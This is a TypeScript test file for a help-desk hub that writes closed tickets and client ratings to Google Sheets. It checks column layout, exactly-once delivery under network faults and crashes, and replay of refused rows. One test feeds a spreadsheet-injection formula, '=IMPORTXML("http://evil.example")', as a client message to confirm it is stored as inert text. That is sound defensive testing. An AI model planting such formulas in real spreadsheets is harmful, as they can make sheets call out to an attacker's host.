// The logbook: closed tickets and what clients thought of them, as rows of a sheet, each once.

import test from 'ava'
import type { ExecutionContext } from 'ava'
import { connectDatabase } from '../../src/store/database.ts'
import { replay, undelivered } from '../../src/store/undelivered.ts'
import { startJourney } from './journey.ts'
import { sheetId as id, startSheet } from './sheet.ts'
import { until } from './until.ts'

async function withLogbook(t: ExecutionContext, name: string, log = 'Closed,Marks') {
  const tabs = { People: [['Name', 'Telegram']], Closed: [], Marks: [] }
  const { sheets, email, env } = await startSheet(t, tabs, 'writer')
  const journey = await startJourney(t, { name, env: { ...env, SHEETS_LOG: log } })
  const { telegram, todoist, people, see, settle, database } = journey
  const anna = telegram.as(people.anna.id)
  /** What stands in a tab below its heading, without the keys. */
  const rows = (tab: string) =>
    sheets
      .tab(id, tab)
      .slice(1)
      .map(([, ...cells]) => cells)
  const numbers = () => rows('Closed').map(([number]) => number)
  async function closed(text: string, number: number): Promise<void> {
    await database.knex('tickets').update({ closed_at: new Date(Date.now() - 73 * 3_600_000) })
    anna.write(text)
    await settle()
    todoist.as(people.olga.todoist.id).complete(see.task(new RegExp(`#${number} `)).id)
  }
  return { journey, sheets, email, anna, rows, numbers, closed }
}

const time = (cell: unknown): boolean => /^\d{4}-\d\d-\d\d \d\d:\d\d$/.test(String(cell))

test.serial('a closed ticket is a row, and so are its marks and the comment', async (t) => {
  const { journey, sheets, anna, rows } = await withLogbook(t, 'logbook')
  const { todoist, people, see, settle } = journey
  anna.write('=IMPORTXML("http://evil.example")')
  await settle()
  const task = see.task().id
  todoist.as(people.olga.todoist.id).assign(task, people.olga.todoist.id)
  todoist.as(people.olga.todoist.id).comment(task, 'On my way')
  await settle()
  todoist.as(people.olga.todoist.id).complete(task)
  await settle()
  t.deepEqual(sheets.tab(id, 'Closed')[0], [
    ...['key', 'number', 'desk', 'client', 'technician', 'opened (UTC)', 'first answered (UTC)', 'closed (UTC)'],
    ...['urgency', 'subject'],
  ])
  const [row] = rows('Closed')
  t.deepEqual(
    row!.map((cell) => (time(cell) ? 'time' : cell)),
    [
      1,
      'Hackathon support',
      'Anna (@anna)',
      'Olga',
      'time',
      'time',
      'time',
      'not yet known',
      '=IMPORTXML("http://evil.example")',
    ],
  )
  const message = see.inChat(people.anna.id, '1/3')
  for (const [question, mark] of [5, 3, 4].entries()) {
    void anna.press(people.anna.id, message, `s:1:${question}:${mark}`)
    await settle()
  }
  anna.write('+Be faster')
  await settle()
  t.deepEqual(sheets.tab(id, 'Marks')[0], [
    ...['key', 'number', 'desk', 'client', 'technician', 'answered (UTC)', 'comment', 'speed', 'answer', 'politeness'],
  ])
  t.deepEqual(
    rows('Marks').map((cells) => cells.map((cell) => (time(cell) ? 'time' : cell))),
    [
      [1, 'Hackathon support', 'Anna (@anna)', 'Olga', 'time', '', 5, 3, 4],
      [1, 'Hackathon support', 'Anna (@anna)', 'Olga', 'time', '+Be faster', 5, 3, 4],
    ],
  )
  t.deepEqual(see.refused(), [])
})

test.serial('with one tab only closed tickets are rows', async (t) => {
  const { journey, anna, sheets, rows, closed } = await withLogbook(t, 'logbook_one', 'Closed')
  const { people, see, settle } = journey
  await closed('No water', 1)
  await settle()
  const message = see.inChat(people.anna.id, '1/3')
  for (const question of [0, 1, 2]) {
    void anna.press(people.anna.id, message, `s:1:${question}:5`)
    await settle()
  }
  t.is(rows('Closed').length, 1)
  t.deepEqual(sheets.tab(id, 'Marks'), [])
})

for (const [title, fault, name] of [
  ['an answer is lost', 'lost-response', 'logbook_lost'],
  ['it was done and answered with 500', '500 after', 'logbook_500'],
  ['nobody answers', 'hang', 'logbook_hang'],
  ['the quota is spent', '429', 'logbook_quota'],
] as const)
  test.serial(`where ${title}, rows still come once each and in order`, async (t) => {
    const { journey, sheets, numbers, closed } = await withLogbook(t, name)
    await closed('No water', 1)
    await journey.settle()
    t.deepEqual(numbers(), [1])
    sheets.next(fault, { method: 'POST' })
    await closed('No light', 2)
    await until(async () => {
      // A minute is over for whoever was asked to wait for one.
      await journey.database
        .knex('lanes')
        .where({ key: 'logbook' })
        .where('failures', 0)
        .update({ not_before: '-infinity' })
      return numbers().includes(2)
    })
    await closed('No heat', 3)
    await until(() => numbers().includes(3))
    await journey.settle()
    t.deepEqual(numbers(), [1, 2, 3])
  })

test.serial('a row written by a hub that did not live to tell is not written again', async (t) => {
  const { journey, numbers, closed } = await withLogbook(t, 'logbook_died')
  const { knex } = journey.database
  await closed('No water', 1)
  await journey.settle()
  await journey.stopHub()
  await knex('outbox').where({ op: 'log' }).update({ state: 'sending', done_at: null, outcome: null })
  await knex('streams').where({ key: 'logbook:tickets' }).update({ pending: 1 })
  await journey.startHub()
  await journey.settle()
  await closed('No light', 2)
  await journey.settle()
  t.deepEqual(numbers(), [1, 2])
  t.like(await knex('outbox').where({ op: 'log' }).orderBy('id').first(), { state: 'done', attempts: 2 })
})

test.serial('while Google is away tickets close as ever, and their rows come when it is back', async (t) => {
  const { journey, sheets, numbers, closed } = await withLogbook(t, 'logbook_away')
  const { see } = journey
  sheets.setDown('500 before')
  await closed('No water', 1)
  await until(() => see.topics()[0]?.name.includes('Closed') === true)
  t.deepEqual(numbers(), [])
  await journey.restart()
  sheets.setDown(null)
  await until(() => numbers().length === 1)
  await journey.settle()
  t.deepEqual(numbers(), [1])
})

test.serial('what is refused for good can be seen, mended and sent again', async (t) => {
  const { journey, sheets, email, numbers, closed } = await withLogbook(t, 'logbook_refused')
  const knex = connectDatabase(journey.database.url, { pool: 1 })
  t.teardown(async () => await knex.destroy())
  sheets.unshare(id, email)
  await closed('No water', 1)
  await until(async () => (await knex('outbox').where({ op: 'log' }).whereNotNull('refused_since')).length === 1)
  const longAgo = new Date(Date.now() - 25 * 3_600_000)
  await knex('outbox').where({ op: 'log' }).update({ refused_since: longAgo, not_before: '-infinity' })
  await until(async () => (await undelivered(knex)).length === 1)
  const [row] = await undelivered(knex)
  t.like(row, { op: 'log', ticketId: 1, state: 'dead' })
  t.regex(row!.error ?? '', /not shared with hub@project/)
  sheets.share(id, email, 'writer')
  t.is(await replay(knex, [row!.id]), 1)
  await journey.settle()
  t.deepEqual(numbers(), [1])
  t.deepEqual(await undelivered(knex), [])
})
